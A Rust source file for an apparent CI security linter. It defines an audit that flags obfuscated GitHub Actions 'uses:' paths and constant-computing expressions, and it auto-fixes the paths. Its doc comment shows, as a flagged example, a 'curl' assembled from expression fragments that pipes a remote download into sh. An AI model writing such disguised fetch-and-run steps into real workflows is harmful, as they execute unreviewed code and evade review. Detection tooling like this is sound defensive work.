use shipgate_model::{Persona, Severity};

use crate::audit::{AuditMeta, Sink, audit_meta};
use crate::expr::{self, Expr, ExprKind, Function};
use crate::fix::{Edit, Fix};
use crate::github::model::{Action, Step, Workflow};
use crate::github::{AuditContext, GithubAudit};
use crate::yaml::{Document, Node, Value};

audit_meta! {
    /// Finds references written so that they read differently from what
    /// they do: `uses:` paths with `.` or `..` segments, empty segments or a
    /// trailing slash (`actions/checkout/./@v4`, `org/repo//path@v1`), and
    /// expressions that compute a constant (`${{ 'curl' }}`,
    /// `fromJSON('"x"')`, `format('{0}', 'x')`).
    ///
    /// ## Why it matters
    /// Reviewers and tools match `uses:` and scripts by their text. A path
    /// that walks `..` can point at a different action than the one its
    /// prefix names, and a command assembled from constant expressions
    /// hides from anyone searching for it. Legitimate workflows have no
    /// reason to write either.
    ///
    /// ## Example
    /// ```yaml
    /// - uses: actions/cache/save/../restore@v4   # flagged
    /// - run: ${{ 'cu' }}${{ 'rl' }} https://example.com/x | sh   # flagged
    /// ```
    ///
    /// ## Fix
    /// Write the path in its normal form (`shipgate fix` removes `.` and
    /// empty segments) and write constants as plain text.
    pub(crate) static OBFUSCATION = {
        id: "github/obfuscation",
        title: "Obfuscated reference or constant expression",
        severity: Low,
        confidence: High,
        persona: Default,
        controls: ["CICD-SEC-3", "SSDF-PW.7"],
    };
}

pub(crate) struct Obfuscation;

impl GithubAudit for Obfuscation {
    fn meta(&self) -> &'static AuditMeta {
        &OBFUSCATION
    }

    fn workflow(&self, _cx: &AuditContext<'_>, workflow: &Workflow<'_>, sink: &mut Sink) {
        for job in &workflow.jobs {
            if let Some(uses) = job.uses {
                check_uses(workflow.doc, uses, &format!("{}.uses", job.path), sink);
            }
            check_steps(workflow.doc, &job.steps, sink);
        }
        check_expressions(workflow.doc, workflow.root, String::new(), sink);
    }

    fn action(&self, _cx: &AuditContext<'_>, action: &Action<'_>, sink: &mut Sink) {
        check_steps(action.doc, &action.steps, sink);
        check_expressions(action.doc, action.root, String::new(), sink);
    }
}

fn check_steps(doc: &Document, steps: &[Step<'_>], sink: &mut Sink) {
    for step in steps {
        if let Some(uses) = step.uses {
            check_uses(doc, uses, &format!("{}.uses", step.path), sink);
        }
    }
}

/// `path` with `.` and empty segments removed, or `None` when it has `..`
/// (whose meaning depends on what the repository holds).
fn normalized(path: &str) -> Option<String> {
    let segments: Vec<&str> = path.split('/').collect();
    if segments.contains(&"..") {
        return None;
    }
    Some(
        segments
            .into_iter()
            .filter(|s| !s.is_empty() && *s != ".")
            .collect::<Vec<_>>()
            .join("/"),
    )
}

fn check_uses(doc: &Document, node: &Node, symbolic: &str, sink: &mut Sink) {
    let Some(text) = node.as_str() else {
        return;
    };
    let text = text.trim();
    if text.starts_with("docker://") {
        return;
    }
    let (path, git_ref) = match text.split_once('@') {
        Some((path, git_ref)) => (path, Some(git_ref)),
        None => (text, None),
    };
    // A local path may climb out of the repository with leading `../`
    // to reach a sibling checkout, an ordinary layout.
    let rest = match path.strip_prefix("./") {
        Some(local) => local.trim_start_matches("../"),
        None => path,
    };
    let segments: Vec<&str> = rest.split('/').collect();
    let climbs = segments.contains(&"..");
    let inner_odd = segments
        .iter()
        .enumerate()
        .any(|(i, s)| *s == "." || (s.is_empty() && i + 1 < segments.len()));
    let trailing_slash = rest.len() > 1 && rest.ends_with('/');
    if !(climbs || inner_odd || trailing_slash) {
        return;
    }
    let finding = sink.report(
        &OBFUSCATION,
        node.span.clone(),
        symbolic,
        if climbs {
            format!("`{text}` walks back with `..`: it may not be the action its prefix names")
        } else {
            format!(
                "`{text}` has `.`, empty or trailing path segments; write it in its normal form"
            )
        },
    );
    if climbs {
        finding.severity(Severity::Medium);
        return;
    }
    if !inner_odd {
        finding.persona(Persona::Pedantic);
    }
    let Some(clean) = normalized(rest) else {
        return;
    };
    let kept = &path[..path.len() - rest.len()];
    let replacement = match git_ref {
        Some(git_ref) => format!("{kept}{clean}@{git_ref}"),
        None => format!("{kept}{clean}"),
    };
    if doc.text(&node.span) == text {
        finding.fix(Fix {
            title: format!("write `{replacement}`"),
            safe: true,
            edits: vec![Edit {
                range: node.span.clone(),
                replacement,
            }],
            touches: vec![symbolic.to_owned()],
        });
    }
}

/// Walks every scalar but conditions (another audit judges those) and
/// reports constant expressions.
fn check_expressions(doc: &Document, node: &Node, path: String, sink: &mut Sink) {
    match &node.value {
        Value::Scalar(text, _) => {
            if text.contains("${{") {
                check_text(doc, node, text, &path, sink);
            }
        }
        Value::Seq(items) => {
            for (index, item) in items.iter().enumerate() {
                check_expressions(doc, item, format!("{path}[{index}]"), sink);
            }
        }
        Value::Map(entries) => {
            for entry in entries {
                let Some(key) = entry.key.as_str() else {
                    continue;
                };
                if key == "if" {
                    continue;
                }
                let child = if path.is_empty() {
                    key.to_owned()
                } else {
                    format!("{path}.{key}")
                };
                check_expressions(doc, &entry.value, child, sink);
            }
        }
    }
}

fn check_text(doc: &Document, node: &Node, text: &str, path: &str, sink: &mut Sink) {
    for embedded in expr::embedded(text) {
        let Ok(parsed) = expr::parse(embedded.inner) else {
            continue;
        };
        let whole = &text[embedded.range.clone()];
        if is_constant_text(&parsed) {
            sink.report(
                &OBFUSCATION,
                doc.locate(node, whole),
                path,
                format!("`{whole}` always yields the same text; write the text itself"),
            )
            .persona(Persona::Pedantic);
            continue;
        }
        let mut hidden: Vec<&Expr> = Vec::new();
        parsed.walk(&mut |sub| {
            if is_constant_call(sub) {
                hidden.push(sub);
            }
        });
        if let Some(sub) = hidden.first() {
            let sub_text = embedded
                .inner
                .get(sub.span.clone())
                .unwrap_or(embedded.inner);
            sink.report(
                &OBFUSCATION,
                doc.locate(node, sub_text),
                path,
                format!("`{sub_text}` computes a constant inside an expression, hiding what the expression reads"),
            );
        }
    }
}

/// A string literal, or a function of constants that yields one.
fn is_constant_text(parsed: &Expr) -> bool {
    match &parsed.kind {
        // `${{ '${{' }}` is how a workflow writes a literal `${{`.
        ExprKind::String(text) => !text.contains("${{") && !text.contains("}}"),
        _ => is_constant_call(parsed),
    }
}

/// `fromJSON` of a JSON scalar, `format`, `join` or `toJSON` of constants.
/// `fromJSON` of an array or object literal is the ordinary way to write a
/// list, so it is not reported.
fn is_constant_call(sub: &Expr) -> bool {
    let ExprKind::Call { name, args } = &sub.kind else {
        return false;
    };
    if sub.constant().is_none() && !args.iter().all(|a| a.constant().is_some()) {
        return false;
    }
    match Function::from_name(name) {
        Some(Function::FromJson) => matches!(
            args.first().map(|a| &a.kind),
            Some(ExprKind::String(json)) if !json.trim_start().starts_with(['[', '{'])
        ),
        Some(Function::Format | Function::Join | Function::ToJson) => {
            args.iter().all(|a| a.constant().is_some())
        }
        _ => false,
    }
}
